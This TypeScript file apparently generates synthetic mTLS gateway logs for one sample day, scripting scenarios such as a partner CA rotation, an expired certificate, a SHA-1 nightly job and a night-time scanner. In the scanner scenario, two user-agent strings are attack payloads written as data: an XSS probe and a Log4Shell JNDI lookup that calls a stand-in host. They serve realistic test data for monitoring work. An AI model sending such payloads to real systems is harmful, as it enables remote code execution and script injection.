/** What happens on the sample day, one function a story. Times are UTC. */

import { OTHER_FORBIDDEN } from './forbidden.js';
import { ACME_CLIENTS, BANK_CLIENTS, EXPIRY, MUELLER_CLIENTS, SAMPLE_DAY, SCANNER_CERTIFICATES } from './pki.js';
import type { ApiName, Refusal, Timeline } from './timeline.js';

export interface Story {
  readonly name: string;
  readonly tell: (day: Timeline, scale: number) => void;
  /** Whether every day has it, or the last one only. */
  readonly daily: boolean;
  /** Who should be woken: a group of its own, the scope as a whole, or nobody. */
  readonly alert: 'group' | 'scope' | 'none';
}

const SECOND = 1000;
const MINUTE = 60 * SECOND;

const ISSUER_NOT_FOUND: Refusal = { words: 'Could not find issuer for certificate', reason: 'issuer-not-found' };
const SIGNATURE_FAILURE: Refusal = { words: 'certificate signature failure', reason: 'signature-failure' };
const INSECURE: Refusal = {
  words: 'Client cert using an insecure Signature Algorithm',
  reason: 'insecure-signature-algorithm',
};
const SELF_SIGNED: Refusal = { words: 'self signed certificate', reason: 'self-signed' };
const EXPIRED: Refusal = { words: 'certificate has expired', reason: 'expired' };

/** When Acme's new CA came into use, and when the truststore had it. */
export const ROTATION = { from: '09:12:00', to: '09:59:00' } as const;

/** Partners at work: sessions of some calls, more of them in office hours. Almost all of a day is this. */
function everydayTraffic(day: Timeline, scale: number): void {
  const { random } = day;
  const blind = { from: day.at(ROTATION.from), to: day.at(ROTATION.to) };
  const apiOf = (client: string): ApiName => {
    if (client.startsWith('sandbox')) return 'sandbox';
    return isAcme(client) || isMueller(client) ? 'partners' : random.pick(['payments', 'payments', 'partners']);
  };
  for (const client of [...BANK_CLIENTS, ...ACME_CLIENTS, ...MUELLER_CLIENTS]) {
    for (let session = 0; session < Math.ceil(7 * scale); session += 1) {
      const api = apiOf(client);
      let at = day.at('00:00:00') + hourOfWork(day) * 60 * MINUTE + random.between(0, 60 * MINUTE - 60 * SECOND);
      for (let calls = random.between(4, 18); calls > 0; calls -= 1) {
        at += random.between(80, 3200);
        const rotating = isAcme(client) && at >= blind.from && at < blind.to;
        if (!rotating)
          day.serve(at, { api, client: isAcme(client) && at >= blind.to ? `${client}-new` : client }, status(day));
      }
    }
  }
}

/** 09:12: Acme's systems start to use certificates of a re-keyed CA that the truststore lacks; 09:59: it has it. */
function partnerRotatesItsCa(day: Timeline): void {
  const { random } = day;
  const end = day.at(ROTATION.to);
  for (const [n, name] of ACME_CLIENTS.entries()) {
    // Certificates that name the key of their authority find no issuer; for the two that do not, the old key of the
    // same name is tried, and its signature does not match.
    const refusal = name === 'edi-04' || name === 'edi-05' ? SIGNATURE_FAILURE : ISSUER_NOT_FOUND;
    for (let at = day.at(ROTATION.from) + 7 * SECOND + n * 3; at < end; at += random.between(8, 28) * SECOND) {
      const sourceIp = `203.0.113.${10 + n}`;
      const caller = { api: 'partners' as const, client: `${name}-new`, sourceIp, userAgent: 'AcmeEDI/7.4 (AS4)' };
      day.refuse(at, caller, refusal);
      // Its two workers call at the same time, so that requests interleave.
      if (random.next() < 0.4) day.refuse(at + random.between(0, 4), caller, refusal);
    }
  }
}

/** 13:00: a batch client's certificate expires; it tries again with back-off, starting over every job; 14:40: renewed. */
function certificateExpires(day: Timeline): void {
  const { random } = day;
  const caller = {
    api: 'payments' as const,
    client: 'globex-billing',
    sourceIp: '192.0.2.77',
    userAgent: 'GlobexBilling/2.1',
  };
  for (let at = day.at('08:00:00'); at < EXPIRY; at += MINUTE) day.serve(at + random.between(0, 900), caller);
  const renewed = day.at('14:40:00');
  for (let job = EXPIRY; job < renewed; job += 25 * MINUTE) {
    let wait = SECOND;
    for (let at = job + 400; at < Math.min(renewed, job + 25 * MINUTE); at += wait + random.between(0, 250)) {
      day.refuse(at, caller, EXPIRED);
      wait = Math.min(20 * SECOND, wait * 2);
    }
  }
  for (let at = renewed; at < day.at('18:00:00'); at += MINUTE) {
    day.serve(at + random.between(0, 900), { ...caller, client: 'globex-billing-new' });
  }
}

/** 03:20 to 04:10: somebody looks around with certificates made up on the spot, a few calls with each. */
function scannerComesBy(day: Timeline): void {
  const { random } = day;
  for (let n = 0; n < SCANNER_CERTIFICATES; n += 1) {
    const at = day.at('03:20:00') + n * 25 * SECOND + random.between(0, 5 * SECOND);
    for (let call = random.between(1, 4); call > 0; call -= 1) {
      day.refuse(
        at + call * random.between(2, 40),
        {
          api: 'payments',
          client: `scanner-${n}`,
          sourceIp: `185.220.101.${random.between(1, 80)}`,
          userAgent: random.pick([
            'Mozilla/5.0 zgrab/0.x',
            'masscan/1.3',
            '<script>alert(document.domain)</script>',
            // biome-ignore lint/suspicious/noTemplateCurlyInString: what scanners send
            '${jndi:ldap://x.example/a}',
          ]),
        },
        SELF_SIGNED,
      );
    }
  }
}

/** 02:00: one step of the nightly settlement still uses a SHA-1 certificate; three or four calls, every night. */
function nightlyJobFailsALittle(day: Timeline): void {
  const caller = {
    api: 'partners' as const,
    client: 'fabrikam-sha1',
    sourceIp: '192.0.2.140',
    userAgent: 'settle.sh curl/7.29.0',
  };
  for (let call = day.random.between(3, 4); call > 0; call -= 1) {
    day.refuse(day.at('02:00:01') + call * 20 * SECOND + day.random.between(0, 900), caller, INSECURE);
  }
}

/** 11:05: a device SDK pins the id of its requests; another sends an id that is none. Neither may hide a failure. */
function clientPinsItsRequestId(day: Timeline): void {
  const device = {
    api: 'payments' as const,
    client: 'initech-device',
    sourceIp: '192.0.2.201',
    userAgent: 'InitechSDK/0.9',
  };
  let at = day.at('11:05:00');
  for (let call = 0; call < 48; call += 1) {
    at += day.random.between(9, 31) * SECOND;
    day.refuse(at, { ...device, requestId: PINNED_REQUEST_ID }, ISSUER_NOT_FOUND);
  }
  for (const clock of ['15:20:11', '15:20:12', '15:20:14']) {
    day.refuse(day.at(clock), { ...device, requestId: 'UUID_REPLACED_INVALID_REQUEST_ID' }, ISSUER_NOT_FOUND);
  }
}

export const PINNED_REQUEST_ID = '00000000-0000-4000-8000-000000000000';

/** One refusal here and there; among them words that no catalogue has. */
function scatteredRefusals(day: Timeline): void {
  const other = (words: string): Refusal => ({ words, reason: 'other' });
  const refusals: readonly (readonly [clock: string, api: ApiName, client: string, Refusal])[] = [
    ['00:41:08', 'payments', 'wingtip-app', other('excluded subtree violation')],
    ['06:15:33', 'payments', 'tomorrow', { words: 'certificate is not yet valid', reason: 'not-yet-valid' }],
    ['06:15:48', 'payments', 'tomorrow', { words: 'certificate is not yet valid', reason: 'not-yet-valid' }],
    ['08:02:19', 'partners', 'umbrella-client', { words: 'certificate chain too long', reason: 'chain-too-long' }],
    ['10:30:01', 'payments', 'weak-key', { words: 'EE certificate key too weak', reason: 'weak-key' }],
    ['12:44:50', 'partners', 'mueller-versand', other('unsupported or invalid name syntax')],
    ['15:02:37', 'partners', 'umbrella-client', { words: 'certificate chain too long', reason: 'chain-too-long' }],
    ['16:18:22', 'sandbox', 'initech-device', ISSUER_NOT_FOUND],
    ['16:18:40', 'sandbox', 'scanner-7', { words: 'self-signed certificate', reason: 'self-signed' }],
    ['19:37:05', 'partners', 'mueller-lager', other('unsupported or invalid name syntax')],
    ['21:55:12', 'sandbox', 'edi-03-new', other('invalid or inconsistent certificate policy extension')],
  ];
  for (const [clock, api, client, refusal] of refusals) {
    // Certificates of that day: before it, nobody had them.
    if (day.date !== SAMPLE_DAY && /-new$|^scanner/.test(client)) continue;
    day.refuse(day.at(clock) + day.random.between(0, 999), { api, client }, refusal);
  }
}

/** 17:20: five refusals whose access records never come: why is known, who is not. */
function accessLogLosesRecords(day: Timeline): void {
  for (const clock of ['17:20:04', '17:20:09', '17:20:31', '17:21:02', '17:21:40']) {
    day.refuse(day.at(clock), { api: 'payments', client: 'initech-device', inAccessLog: false }, ISSUER_NOT_FOUND);
  }
}

/** All the other ways to get a 403, spread over the day. */
function otherForbidden(day: Timeline, scale: number): void {
  const { random } = day;
  for (const [api, forbidden, all] of OTHER_FORBIDDEN) {
    const count = day.date === SAMPLE_DAY ? all : Math.round(all * Math.min(1, scale) * (0.5 + random.next()));
    for (let n = 0; n < count; n += 1) {
      const at = day.at('00:00:30') + random.between(0, 1436 * MINUTE);
      const client = random.pick(api === 'sandbox' ? BANK_CLIENTS.slice(-3) : BANK_CLIENTS.slice(0, -3));
      day.forbid(at, { api, client }, forbidden);
    }
  }
}

export const STORIES: readonly Story[] = [
  { name: 'everyday-traffic', tell: everydayTraffic, daily: true, alert: 'none' },
  { name: 'nightly-job', tell: nightlyJobFailsALittle, daily: true, alert: 'none' },
  { name: 'other-forbidden', tell: otherForbidden, daily: true, alert: 'none' },
  { name: 'scanner', tell: scannerComesBy, daily: false, alert: 'scope' },
  { name: 'ca-rotation', tell: partnerRotatesItsCa, daily: false, alert: 'group' },
  { name: 'pinned-request-id', tell: clientPinsItsRequestId, daily: false, alert: 'group' },
  { name: 'expired-certificate', tell: certificateExpires, daily: false, alert: 'group' },
  { name: 'lost-access-records', tell: accessLogLosesRecords, daily: false, alert: 'none' },
  { name: 'scattered', tell: scatteredRefusals, daily: true, alert: 'none' },
];

const isAcme = (client: string) => ACME_CLIENTS.some((name) => name === client);
const isMueller = (client: string) => MUELLER_CLIENTS.some((name) => name === client);

/** Office hours are eight times as busy as the night. */
function hourOfWork({ random }: Timeline): number {
  const weights = Array.from({ length: 24 }, (_, hour) =>
    hour >= 7 && hour < 18 ? 8 : hour >= 5 && hour < 22 ? 3 : 1,
  );
  let left = random.next() * weights.reduce((sum, weight) => sum + weight, 0);
  return weights.findIndex((weight) => {
    left -= weight;
    return left < 0;
  });
}

function status({ random }: Timeline): number {
  const draw = random.next();
  if (draw < 0.93) return 200;
  return draw < 0.97 ? 201 : draw < 0.99 ? 404 : draw < 0.997 ? 429 : 504;
}
